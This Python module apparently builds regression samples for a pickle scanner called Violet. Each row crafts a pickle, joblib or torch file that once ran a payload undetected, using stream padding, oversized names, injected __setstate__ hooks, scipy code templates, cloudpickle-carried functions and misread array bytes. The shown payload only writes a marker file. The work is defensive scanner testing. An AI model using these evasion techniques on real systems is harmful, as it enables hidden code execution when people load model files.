"""Files that once ran their payload without a finding of Violet's: each row holds one cause.

The stream rows continue where a follower of the opcodes stops too early, or hide what they do from it; the
state rows give objects what their classes were not vouched for; the reach rows never call anything dangerous
themselves, but have a trusted function, the unpickler or a class call it; the array rows have joblib skip
other bytes than a scanner does.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import struct
from collections.abc import Callable
from typing import Any

from .assembler import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BINPERSID,
    BUILD,
    EMPTY_DICT,
    EMPTY_SET,
    MARK,
    MARKER,
    NONE,
    OBJ,
    POP,
    REDUCE,
    SETITEM,
    SETITEMS,
    SHELL,
    STACK_GLOBAL,
    STOP,
    Op,
    build,
    bytearray8,
    call,
    evil,
    global_,
    integer,
    new,
    pickle,
    proto,
    raw,
    shell,
    stack_global,
    text,
    text8,
    tuple_,
    value,
    values,
)
from .sample import Sample, write_bytes
from .zipcraft import Member, archive

SG = stack_global
Row = tuple[str, str, str, Callable[[], bytes]]

_NAMESPACE = SG("argparse", "Namespace")
_MEMORY = SG("joblib.memory", "Memory")  # making one makes a directory
_PARTIAL = SG("functools", "partial")
_MAKE = call(_PARTIAL, _MEMORY, MARKER)
_DEFAULT = SG("collections", "defaultdict")
_CHAIN = SG("collections", "ChainMap")
_RESULT = SG("scipy.optimize._optimize", "OptimizeResult")
_OVERFLOW = Op(b"".join(bytes(text(f"k{number}") + NONE) for number in range(4200)))
_LONG_PATH = "path.os." * 8300 + "system"


def _then(body: bytes, protocol: int = 4) -> bytes:
    """A stream without frames: something, and then the payload."""
    return bytes(proto(protocol) + body + POP + shell() + STOP)


def _set(instance: bytes, name: Any, item: Any) -> Op:
    """One attribute by BUILD."""
    return Op(instance) + EMPTY_DICT + value(name) + value(item) + SETITEM + BUILD


def _missing(factory: bytes) -> bytes:
    """`dict(ChainMap(defaultdict(factory), {"k": 1}))` looks up a key, and so calls the factory."""
    return pickle(call(SG("builtins", "dict"), call(_CHAIN, call(_DEFAULT, factory), {"k": 1})))


_STREAMS: list[Row] = [
    ("list_setitem.pkl", "stream/setitem-on-list", "pickle", lambda: _then(value([1]) + integer(0) + integer(1) + SETITEM)),
    ("bytearray_append.pkl", "stream/append-to-bytearray", "pickle", lambda: _then(bytearray8(b"abc") + integer(1) + APPEND, 5)),
    ("bytearray_setitem.pkl", "stream/setitem-on-bytearray", "pickle", lambda: _then(bytearray8(b"abc") + integer(0) + integer(1) + SETITEM, 5)),
    ("long_name.pkl", "stream/name-of-66-KiB", "pickle", lambda: bytes(proto(4) + text("os") + text8(_LONG_PATH) + STACK_GLOBAL + value((SHELL,)) + REDUCE + STOP)),
    ("long_name_global.pkl", "stream/name-of-66-KiB-in-global", "pickle", lambda: bytes(proto(4) + global_("os", _LONG_PATH) + value((SHELL,)) + REDUCE + STOP)),
    ("padded_constant.bin", "stream/20-KiB-before-first-import", "pickle", lambda: b"X" + struct.pack("<I", 20000) + b"a" * 20000 + b"0" + bytes(shell() + STOP)),
    ("padded_constant.json", "stream/20-KiB-before-first-import-as-json", "pickle", lambda: b"X" + struct.pack("<I", 20000) + b"a" * 20000 + b"0" + bytes(shell() + STOP)),
    ("padded_none", "stream/12-KB-of-nothing-before-first-import", "pickle", lambda: b"N0" * 6000 + bytes(shell() + STOP)),
    ("padded_none.npy", "stream/12-KB-of-nothing-before-first-import-as-npy", "numpy", lambda: b"N0" * 6000 + bytes(shell() + STOP)),
    ("bzip2_magic.bin", "stream/bzip2-magic-is-binbytes", "pickle", lambda: b"BZh\x00\x00" + bytes(0x685A) + b"0" + bytes(shell() + STOP)),
    ("bzip2_magic_whole.bin", "stream/whole-bzip2-magic-is-binbytes", "pickle", lambda: b"BZh9\x00" + bytes(0x39685A) + b"0" + bytes(shell() + STOP)),
    ("many_streams.bin", "stream/behind-100000-streams", "pickle-repeat", lambda: b"N." * 100_001 + bytes(shell() + STOP)),
]  # fmt: skip

_NORM = SG("scipy.stats._continuous_distns", "norm_gen")
_TEMPLATE = (
    f"open({MARKER!r},'w').close()\ndef _parse_args(self,*a): pass\n_parse_args_stats=_parse_args_rvs=_parse_args\n"
)
_KEY = "_parse_arg_template"
_CODE = {_KEY: _TEMPLATE}
_NDARRAY = SG("numpy", "ndarray")
_ORDERED = SG("collections", "OrderedDict")

_STATES: list[Row] = [
    ("template.pkl", "state/scipy-template", "pickle", lambda: pickle(build(new(_NORM), _CODE))),
    ("template_new_obj.pkl", "state/scipy-template-by-newobj-helper", "pickle", lambda: pickle(build(call(SG("sklearn.metrics._dist_metrics", "newObj"), _NORM), _CODE))),
    ("template_masked.pkl", "state/scipy-template-by-masked-array-helper", "pickle", lambda: pickle(build(call(SG("numpy.ma.core", "_mareconstruct"), _NORM, _NDARRAY, (0,), "b"), _CODE))),
    ("template_index.pkl", "state/scipy-template-by-pandas-index-helper", "pickle", lambda: pickle(build(call(SG("pandas.core.indexes.base", "_new_Index"), _NORM, {}), _CODE))),
    ("template_ordered.pkl", "state/scipy-template-in-ordered-dict", "pickle", lambda: pickle(new(_NORM) + call(_ORDERED, [(_KEY, _TEMPLATE)]) + BUILD)),
    ("template_stored.pkl", "state/scipy-template-stored-in-ordered-dict", "pickle", lambda: pickle(new(_NORM) + call(_ORDERED) + value(_KEY) + value(_TEMPLATE) + SETITEM + BUILD)),
    ("template_pairs.pkl", "state/scipy-template-in-list-of-pairs", "pickle", lambda: pickle(build(new(_NORM), [(_KEY, _TEMPLATE)]))),
    ("template_overflow.pkl", "state/scipy-template-behind-4200-items", "pickle", lambda: pickle(new(_NORM) + EMPTY_DICT + MARK + _OVERFLOW + values(_KEY, _TEMPLATE) + SETITEMS + BUILD)),
    ("template_computed_key.pkl", "state/scipy-template-under-computed-key", "pickle", lambda: pickle(_set(new(_NORM), call(SG("builtins", "str"), _KEY), _TEMPLATE))),
    ("hook_computed_key.pkl", "state/hook-under-computed-key", "pickle", lambda: pickle(_set(new(_NAMESPACE), call(SG("builtins", "str"), "__setstate__"), _MEMORY) + value(MARKER) + BUILD)),
    ("hook_ordered.pkl", "state/hook-stored-in-ordered-dict", "pickle", lambda: pickle(new(_NAMESPACE) + call(_ORDERED) + text("__setstate__") + _MEMORY + SETITEM + BUILD + value(MARKER) + BUILD)),
    ("hook_dict_call.pkl", "state/hook-in-called-dict", "pickle", lambda: pickle(new(_NAMESPACE) + call(SG("builtins", "dict"), [("__setstate__", _MEMORY)]) + BUILD + value(MARKER) + BUILD)),
    ("hook_slots_call.pkl", "state/hook-in-called-dict-of-slots", "pickle", lambda: pickle(new(_NAMESPACE) + tuple_(None, call(SG("builtins", "dict"), [("__setstate__", _MEMORY)])) + BUILD + value(MARKER) + BUILD)),
    ("hook_overflow.pkl", "state/hook-behind-4200-items", "pickle", lambda: pickle(new(_NAMESPACE) + EMPTY_DICT + MARK + _OVERFLOW + values("__setstate__", _MEMORY) + SETITEMS + BUILD + value(MARKER) + BUILD)),
    ("hook_item.pkl", "state/items-are-attributes", "pickle", lambda: pickle(new(_RESULT) + MARK + values("__setstate__", _MEMORY) + SETITEMS + value(MARKER) + BUILD)),
    ("hook_item_append.pkl", "state/items-are-attributes-append", "pickle", lambda: pickle(new(_RESULT) + MARK + values("append", _MEMORY) + SETITEMS + value(MARKER) + APPEND)),
    ("alias_patched.pkl", "state/typing-alias-passes-on", "pickle", lambda: pickle(build(call(SG("operator", "getitem"), SG("typing", "Mapping"), (SG("builtins", "int"),) * 2), (None, {"keys": _MAKE})) + POP + call(SG("builtins", "dict"), call(SG("collections", "UserDict"))))),
]  # fmt: skip

_CLOUD = "cloudpickle.cloudpickle"


def _payload(*_: object) -> int:
    open("violet_marker", "w").close()
    return 1


def _function() -> Op:
    """`_payload`, carried by value."""
    code = _payload.__code__
    counts = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize)
    names = (code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames, "f.py", "f", "f")
    made = call(SG("types", "CodeType"), *counts, *names, 1, code.co_linetable, code.co_exceptiontable, (), ())
    return call(SG(_CLOUD, "_make_function"), made, {}, "f", None, None)


def _class(name: str) -> Op:
    """A carried class with one method, the payload."""
    namespace = EMPTY_DICT + text(name) + _function() + SETITEM
    return call(SG(_CLOUD, "_make_skeleton_class"), SG("builtins", "type"), "X", (), namespace, None, None)


_REACHES: list[Row] = [
    ("factory_partial.pkl", "reach/default-factory", "pickle", lambda: _missing(_MAKE)),
    ("factory_function.pkl", "reach/default-factory-carried", "pickle", lambda: _missing(_function())),
    ("squeeze.pkl", "reach/numpy-squeezes-seed", "pickle", lambda: pickle(call(SG("numpy.random", "RandomState"), build(new(_NAMESPACE), {"squeeze": _MAKE})))),
    ("metaclass.pkl", "reach/carried-function-as-metaclass", "pickle", lambda: pickle(call(SG(_CLOUD, "_make_skeleton_class"), _function(), "X", (), {}, None, None))),
    ("dill_type.pkl", "reach/carried-function-as-dill-type", "pickle", lambda: pickle(call(SG("dill._dill", "_create_type"), _function(), "x"))),
    ("class_setstate.pkl", "reach/trusted-class-filled", "pickle", lambda: pickle(call(SG(_CLOUD, "_class_setstate"), _NAMESPACE, ({"__setstate__": _function()}, {})) + POP + build(new(_NAMESPACE), "x"))),
    ("carried_iter.pkl", "reach/carried-class-iterated", "pickle", lambda: pickle(call(SG("builtins", "list"), new(_class("__iter__"))))),
    ("carried_str.pkl", "reach/carried-class-shown", "pickle", lambda: pickle(call(SG("builtins", "str"), new(_class("__str__"))))),
    ("carried_del.pkl", "reach/carried-class-dies", "pickle", lambda: pickle(new(_class("__del__")) + POP + NONE)),
    ("carried_append.pkl", "reach/carried-class-appended-to", "pickle", lambda: pickle(new(_class("append")) + value(1) + APPEND)),
    ("carried_extend.pkl", "reach/carried-class-extended", "pickle", lambda: pickle(new(_class("extend")) + MARK + value(1) + APPENDS)),
    ("carried_keys.pkl", "reach/carried-class-as-dict-keys", "pickle", lambda: pickle(call(SG(_CLOUD, "_make_dict_keys"), new(_class("__iter__"))))),
    ("carried_enum.pkl", "reach/carried-enum-member-maker", "pickle", lambda: pickle(call(SG(_CLOUD, "_make_skeleton_enum"), (SG("enum", "Enum"),), "E", "E", {"__new__": _function(), "A": 1}, "m", None, None))),
    ("carried_hash.pkl", "reach/carried-class-in-set", "pickle", lambda: pickle(EMPTY_SET + MARK + new(_class("__hash__")) + ADDITEMS)),
    ("carried_init.pkl", "reach/carried-class-called", "pickle", lambda: pickle(MARK + _class("__init__") + value(1) + OBJ)),
    ("carried_iterable_arguments.pkl", "reach/arguments-are-iterated", "pickle-python", lambda: pickle(_ORDERED + new(_class("__iter__")) + REDUCE)),
]  # fmt: skip

_WRAPPER = SG("joblib.numpy_pickle", "NumpyArrayWrapper")
_JUNK = b"\xff\xfe.\x00"  # not opcodes, with a STOP among them


def _dtype(*arguments: Any, state: Any = None) -> Op:
    made = call(SG("numpy", "dtype"), *arguments)
    return made if state is None else build(made, state)


def _honest(changes: dict[str, Any]) -> dict[str, Any]:
    return {"subclass": _NDARRAY, "shape": (8,), "order": "C", "dtype": _dtype("u1"), "allow_mmap": False} | changes


def _array(data: bytes, after: bytes = b"", **changes: Any) -> bytes:
    return bytes(proto(4) + build(new(_WRAPPER), _honest(changes)) + Op(data) + Op(after or shell()) + STOP)


_ONE_BYTE_AS_64 = (3, "|", None, None, None, 64, 1, 0)
_HIDDEN = bytes(shell() + POP)
_ALIGNMENT = call(SG("builtins", "str"), "numpy_array_alignment_bytes")
_ARRAYS: list[Row] = [
    ("array_setitem.joblib", "array/setitem-on-array", "joblib", lambda: _array(_JUNK * 2, integer(0) + integer(1) + SETITEM + POP + shell())),
    ("array_dtype_class.joblib", "array/dtype-class", "joblib", lambda: _array(_JUNK * 16, dtype=call(SG("numpy.dtypes", "Float64DType")))),
    ("array_dtype_fields.joblib", "array/dtype-of-fields", "joblib", lambda: _array(_JUNK * 2, dtype=_dtype([("a", "u1")]))),
    ("array_dtype_commas.joblib", "array/dtype-with-commas", "joblib", lambda: _array(_JUNK * 4, dtype=_dtype("u1,u1"))),
    ("array_dtype_alias.joblib", "array/dtype-by-alias", "joblib", lambda: _array(_JUNK * 16, dtype=_dtype("double"))),
    ("array_dtype_time.joblib", "array/dtype-by-alias-of-time", "joblib", lambda: _array(_JUNK * 16, dtype=_dtype("datetime64[ns]"))),
    ("array_dtype_int.joblib", "array/dtype-of-builtin-type", "joblib", lambda: _array(_JUNK * 16, dtype=_dtype(SG("builtins", "int")))),
    ("array_dtype_state.joblib", "array/dtype-state-ignored-by-numpy", "joblib", lambda: _array(_JUNK * 2, shell() + Op(b"N0" * 300), dtype=_dtype("u1", False, True, state=_ONE_BYTE_AS_64))),
    ("array_dtype_old_state.joblib", "array/dtype-state-of-old-form", "joblib", lambda: _array(_JUNK * 4, dtype=_dtype("V1", False, True, state=(1, "|", None, None, 2, 1)))),
    ("array_dtype_duck.joblib", "array/dtype-is-a-namespace", "joblib", lambda: _array(_JUNK * 2, dtype=build(call(SG("types", "SimpleNamespace")), {"hasobject": False, "itemsize": 1, "dtype": _dtype("u1")}))),
    ("array_shape_tuple_call.joblib", "array/shape-called", "joblib", lambda: _array(_JUNK * 2, shape=call(SG("builtins", "tuple"), [2, 4]))),
    ("array_shape_int_call.joblib", "array/extent-called", "joblib", lambda: _array(_JUNK * 2, shape=(call(SG("builtins", "int"), 8),))),
    ("array_state_ordered.joblib", "array/state-in-ordered-dict", "joblib", lambda: bytes(proto(4) + new(_WRAPPER) + call(_ORDERED, list(_honest({}).items())) + BUILD + Op(_JUNK * 2) + shell() + STOP)),
    ("array_alignment_text.joblib", "array/alignment-is-text", "joblib", lambda: _array(b"\x02ab" + _JUNK * 2, numpy_array_alignment_bytes="x")),
    ("array_alignment_key.joblib", "array/alignment-under-computed-key", "joblib", lambda: bytes(proto(4) + new(_WRAPPER) + value(_honest({})) + _ALIGNMENT + value(16) + SETITEM + BUILD + Op(b"\x02ab" + _JUNK * 2) + shell() + STOP)),
    ("array_wrapper_helper.joblib", "array/wrapper-by-newobj-helper", "joblib", lambda: bytes(proto(4) + build(call(SG("sklearn.metrics._dist_metrics", "newObj"), _WRAPPER), _honest({"shape": (2,)})) + Op(b"N." + b"N0" * 9000) + shell() + STOP)),
    ("array_is_opcodes.pkl", "array/bytes-are-opcodes-to-pickle", "pickle", lambda: _array(_HIDDEN, NONE + POP, shape=(len(_HIDDEN),))),
]  # fmt: skip

_BYTES = SG("torch.storage", "_load_from_bytes")
_META = call(SG("torch._utils", "_rebuild_meta_tensor_no_storage"), SG("torch", "float32"), (1,), (1,), False)


def _encoded(data: bytes) -> Op:
    """Bytes that do not stand in the stream as bytes."""
    return call(SG("_codecs", "encode"), data.decode("latin1"), "latin1")


def _torch_zip(data: bytes) -> bytes:
    return archive(
        [Member(b"archive/data.pkl", data), Member(b"archive/version", b"3\n"), Member(b"archive/data/0", bytes(64))]
    )


_STORAGE = tuple_("storage", SG("torch", "FloatStorage"), "0", "cpu", 16) + BINPERSID
_PARAMETER = SG("torch._utils", "_rebuild_parameter_with_state")
_TORCH: list[Row] = [
    ("bytes_without_head.pkl", "torch/loads-bytes-without-head", "pickle", lambda: pickle(call(_BYTES, b"N0N0" + evil(0)))),
    ("bytes_padded.pkl", "torch/loads-padded-bytes-without-head", "pickle", lambda: pickle(call(_BYTES, raw(b"N0" * 40000 + evil(0))))),
    ("bytes_partial.pkl", "torch/loads-bytes-by-partial", "pickle", lambda: _missing(call(_PARTIAL, _BYTES, _encoded(evil(2))))),
    ("parameter_detached.pkl", "torch/parameter-detaches-namespace", "pickle", lambda: pickle(call(SG("torch._utils", "_rebuild_parameter"), build(new(_NAMESPACE), {"detach": call(_PARTIAL, _BYTES, _encoded(evil(2)))}), False, None))),
    ("parameter_state.pkl", "torch/parameter-state-plants-hook", "pickle", lambda: pickle(call(_PARAMETER, _META, False, None, {"__setstate__": _BYTES}) + _encoded(evil(2)) + BUILD)),
    ("storage_state.pt", "torch/storage-state-plants-hook", "torch", lambda: _torch_zip(bytes(proto(2) + _set(_STORAGE, "__setstate__", _BYTES) + _encoded(evil(2)) + BUILD + STOP))),
]  # fmt: skip


def _samples(rows: list[Row], *needs: str) -> list[Sample]:
    samples = []
    for name, technique, loader, content in rows:
        build_it = write_bytes(f"bypass_{name}", content)
        samples.append(Sample(f"bypass_{name}", f"bypass/{technique}", True, True, build_it, loader, needs))
    return samples


SAMPLES = (
    *_samples(_STREAMS, "numpy"),
    *_samples(_STATES, "joblib", "scipy", "sklearn", "pandas"),
    *_samples(_REACHES, "joblib", "cloudpickle", "dill"),
    *_samples(_ARRAYS, "joblib", "sklearn"),
    *_samples(_TORCH, "torch"),
)
